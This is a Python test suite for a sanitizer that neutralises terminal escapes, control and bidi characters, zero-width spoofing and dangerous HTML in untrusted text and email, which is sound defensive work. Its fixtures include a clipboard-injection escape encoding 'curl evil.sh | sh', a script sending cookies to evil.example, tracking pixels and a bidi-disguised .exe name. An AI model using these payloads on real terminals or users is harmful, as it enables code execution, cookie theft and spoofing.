"""Text from strangers made inert: escapes, controls, bidi, zero-width, long lines, HTML."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.sanitize import CUT_MARK, MAX_LINE, clean_line, clean_text, email_html_to_text

HOSTILE = {
    "colour": ("\x1b[31mrouge\x1b[0m", "rouge"),
    "cursor moves": ("a\x1b[2J\x1b[H\x1b[10;10Hb", "ab"),
    "osc 52 clipboard": ("x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy"),
    "osc 52 with ST": ("x\x1b]52;c;Y3VybA==\x1b\\y", "xy"),
    "osc 8 link": ("\x1b]8;;https://evil.example\x1b\\clic\x1b]8;;\x1b\\", "clic"),
    "title": ("\x1b]0;pwned\x07ok", "ok"),
    "8-bit csi": ("a\x9b31mb", "ab"),
    "8-bit osc": ("a\x9d52;c;AAAA\x9cb", "ab"),
    "dcs": ("a\x1bPq#0;2;0;0;0\x1b\\b", "ab"),
    "c0": ("a\x00b\x07c\x08d\x0be\x0cf\x7fg", "abcdefg"),
    "lone escape": ("a\x1b", "a"),
    "unterminated osc keeps the rest": ("a\x1b]52;c;AAAA", "a52;c;AAAA"),
    "carriage return": ("tout va bien\rEVIL", "tout va bienEVIL"),
    "c1": ("a\x85b\x8dc\x9fd", "abcd"),
    "bidi override": ("fichier\u202egpj.exe", "fichiergpj.exe"),
    "bidi isolates": ("\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202c\u202d", "abc"),
    "zero width": ("p\u200ba\u200cy\u200d\u2060p\ufeffal", "paypal"),
    # other invisible format characters (Unicode category Cf): tags, annotations, deprecated
    # shaping controls; the text around them, accents and symbols included, stays
    "other format characters": (
        "é\U000e0041’\ufff9😀\u206a\u0600ok\U000e0041",
        "é’😀\u0600ok",
    ),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_clean_text_removes_what_a_terminal_would_act_on(case: str) -> None:
    hostile, shown = HOSTILE[case]
    assert clean_text(hostile) == shown


def test_clean_text_keeps_text_newlines_tabs_accents_emoji_and_markup_literally() -> None:
    text = "Bonjour Élodie,\n\tvisite à 10h 👍\n[bold red]x[/] [@click=app.quit]q[/]"
    assert clean_text(text) == text


def test_long_lines_are_cut_and_short_ones_kept() -> None:
    long = "a" * 10_000
    cleaned = clean_text(long + "\nfin")
    first, second = cleaned.split("\n")
    assert len(first) == MAX_LINE and first.endswith(CUT_MARK)
    assert second == "fin"
    assert len(clean_line("b" * 10_000, max_length=80)) == 80


def test_clean_line_is_one_line() -> None:
    assert clean_line("Objet :\r\n urgent\x1b[5m\tclignote ") == "Objet : urgent clignote"
    assert clean_line(None) == ""


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, min_codepoint=0, max_codepoint=0x2100)))
def test_nothing_dangerous_survives_any_input(text: str) -> None:
    cleaned = clean_text(text)
    for ch in cleaned:
        code = ord(ch)
        assert ch in "\n\t" or not (code < 0x20 or 0x7F <= code <= 0x9F), repr(cleaned)
        assert not (0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069), repr(cleaned)
        assert ch not in "\u200b\u200c\u200d\u2060\ufeff", repr(cleaned)
    assert all(len(line) <= MAX_LINE for line in cleaned.split("\n"))
    assert clean_text(cleaned) == cleaned  # idempotent


def test_html_email_drops_scripts_styles_and_never_keeps_a_remote_image() -> None:
    html = """
    <html><head><title>t</title><style>body{background:url(https://track.example/s.gif)}</style>
    <script>fetch('https://evil.example/?c='+document.cookie)</script></head>
    <body><p>Bonjour,</p>
    <p>Voici le <a href="https://agence.example/bien/42">bien</a>.</p>
    <img src="https://cdn.example/photo.jpg" alt="Façade côté rue">
    <img src="https://track.example/open.gif?id=991" width="1" height="1">
    <img src=https://x.example/y.png alt=plan>
    <p onclick="steal()">\x1b]52;c;AAAA\x07Cordialement\u202e</p></body></html>
    """
    text = email_html_to_text(html)
    assert "Bonjour," in text
    assert "bien (https://agence.example/bien/42)" in text
    assert "[image: Façade côté rue]" in text
    assert "[image: plan]" in text
    assert "Cordialement" in text
    for gone in ("fetch", "cookie", "background", "track.example", "cdn.example", "x.example"):
        assert gone not in text
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text


def test_html_email_alt_text_cannot_smuggle_markup_or_escapes() -> None:
    text = email_html_to_text('<img alt="\x1b[31m<b>x</b>\u202e" src="https://a/b">')
    assert text == "[image: bx/b]"
